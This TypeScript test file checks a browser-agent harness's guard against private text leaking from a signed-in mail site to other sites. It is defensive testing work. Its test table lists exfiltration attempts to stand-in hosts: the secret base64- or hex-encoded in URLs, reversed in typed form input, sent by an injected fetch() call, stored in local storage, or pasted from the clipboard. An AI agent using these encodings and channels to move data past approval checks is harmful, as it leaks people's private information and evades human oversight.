import { sample } from '../../support/depth.ts';
import { beforeAll, beforeEach, expect, it } from 'vitest';
import type { AskedPerson } from '../../support/asked-person.ts';
import { askedOn, type PersonRig } from '../../support/person-rig.ts';

/* Text that an agent reads on a site where the person is signed in, on its way to another site. */

const SECRET = 'The board meets on Thursday to discuss the sale of the northern branch to Halvorsen.';
const FORM = '<title>Forum</title><label>Message <textarea></textarea></label><button>Post</button>';

let rig: PersonRig;
let person: AskedPerson;
/** Addresses that were requested. */
const asked: string[] = [];

beforeAll(async () => {
  ({ rig, person } = await askedOn(
    ({ url = '/', headers }, response) => {
      const host = headers.host?.split(':')[0] ?? '';
      asked.push(`${host}${url}`);
      if (host === 'mail.test') response.setHeader('set-cookie', 'sid=4f1a9c77; Path=/; HttpOnly');
      const isIn = headers.cookie?.includes('sid=') === true;
      const given = new URL(url, 'http://x').searchParams.get('text');
      if (given !== null) return void response.end(`<title>Open</title><p>${given}</p>`);
      response.end(host === 'mail.test' ? `<title>Mail</title><p>${isIn ? SECRET : 'Sign in'}</p>` : FORM);
    },
    '--sync-wait-ms',
    '1',
  ));
  // The person has signed in.
  await rig.ok('navigate', { url: rig.at('mail.test') });
});
beforeEach(async () => {
  asked.length = 0;
  await rig.setRules([]);
});

async function readMail(): Promise<void> {
  await rig.ok('navigate', { url: rig.at('mail.test') });
  expect((await rig.ok('read_page', {})).text).toContain('Halvorsen');
}

const sent = (host: string) => asked.filter((one) => one.startsWith(host));
/** A repeated call would get the first decision again, so each address is used once. */
let count = 0;
const opening = (host: string, text: string) =>
  rig.server.call('navigate', { url: rig.at(host, `/${++count}?q=${encodeURIComponent(text)}`) });

it('asks before a private text goes to another site in an address, and names its site', async () => {
  await readMail();
  const answer = await opening('other.test', SECRET);
  expect(answer.code(), answer.text).toBe('approval_required');
  expect(await person.card()).toContain('mail.test');
  expect(sent('other.test')).toEqual([]);
  await person.deny('Not there.');
});

it('a yes for the session covers later text of the same pair of sites, and no other', async () => {
  await readMail();
  await opening('forum.test', SECRET);
  await person.allow('task');
  await expect.poll(async () => (await opening('forum.test', SECRET)).isError).toBe(false);
  expect((await opening('forum.test', Buffer.from(SECRET).toString('base64'))).isError).toBe(false);
  expect((await opening('third.test', SECRET)).code()).toBe('approval_required');
  await person.deny('Not there.');
});

it.each([
  ['of a site without cookies', 'open.test', [], 'done'],
  [
    'that a rule allows',
    'mail.test',
    [{ id: 'mine', from: ['mail.test'], sites: ['other.test'], risks: ['carry_text'], effect: 'allow' }],
    'done',
  ],
  [
    'that a rule denies',
    'mail.test',
    [{ id: 'mine', from: ['mail.test'], sites: ['*'], risks: ['carry_text'], effect: 'deny' }],
    'policy_denied',
  ],
  ['on a site of the same owner', 'www.mail.test', [], 'done'],
] as const)('text %s: from %s by %j ends as %s', async (what, from, rules, ends) => {
  await rig.setRules(rules as unknown as Parameters<PersonRig['setRules']>[0]);
  const text = `The library opens on Saturday to readers from the valley. Said ${what}.`;
  if (from === 'mail.test') await readMail();
  else {
    await rig.ok('navigate', { url: rig.at(from, `/?text=${encodeURIComponent(text)}`) });
    await rig.ok('read_page', {});
  }
  const answer = await opening(
    from === 'www.mail.test' ? 'mail.test' : 'other.test',
    from === 'mail.test' ? SECRET : text,
  );
  expect(answer.isError ? answer.code() : 'done', answer.text).toBe(ends);
});

it('one card is for the typing and for the text', async () => {
  await readMail();
  await rig.ok('navigate', { url: rig.at('board.test') });
  const answer = await rig.server.call('interact', { fields: { Message: SECRET } });
  expect(answer.code(), answer.text).toBe('approval_required');
  expect(await person.card()).toContain('mail.test');
  await person.allow('task');
  await expect
    .poll(async () => (await rig.server.call('interact', { fields: { Message: SECRET } })).text)
    .not.toContain('error');
});

const base64 = Buffer.from(SECRET).toString('base64url');
const hex = Buffer.from(SECRET).toString('hex');

type WayOut = [tool: string, host: string, args: (at: (path: string) => string) => Record<string, unknown>];
const WAYS_OUT: readonly WayOut[] = [
  ['fetch', 'out-a.test', (at) => ({ url: at(`/?q=${base64}`) })],
  ['tabs', 'out-b.test', (at) => ({ action: 'open', url: at(`/${hex}`) })],
  ['crawl', 'out-c.test', (at) => ({ urls: [at(`/?${encodeURIComponent(SECRET.toUpperCase())}`)] })],
  ['evaluate', 'out-d.test', () => ({ code: `() => fetch('/?q=' + ${JSON.stringify(SECRET)})` })],
  ['interact', 'out-e.test', () => ({ steps: [`fill label=Message ${[...SECRET].reverse().join('')}`] })],
  ['storage', 'out-f.test', () => ({ action: 'set', area: 'local', name: 'x', value: SECRET })],
  ['interact', 'out-g.test', () => ({ steps: ['click label=Message', 'press ControlOrMeta+V'] })],
];
it.each(sample(WAYS_OUT, 4))(
  '%s asks on its way to %s, where a rule allows all acts',
  async (tool, host, args) => {
    await rig.setRules([{ id: 'acts', sites: ['*'], effect: 'allow' }]);
    const isInPage = ['evaluate', 'interact', 'storage'].includes(tool);
    if (isInPage) await rig.ok('navigate', { url: rig.at(host) });
    await readMail();
    if (host === 'out-g.test') await rig.server.call('interact', { steps: ['press ControlOrMeta+C'] });
    if (isInPage) await rig.ok('navigate', { url: rig.at(host) });
    asked.length = 0;
    const answer = await rig.server.call(
      tool,
      args((path) => rig.at(host, path)),
    );
    expect(answer.code(), answer.text).toBe('approval_required');
    expect(await person.card()).toContain('mail.test');
    expect(sent(host).filter((one) => !one.endsWith('/favicon.ico'))).toEqual([]);
    await person.deny('Not there.');
  },
);
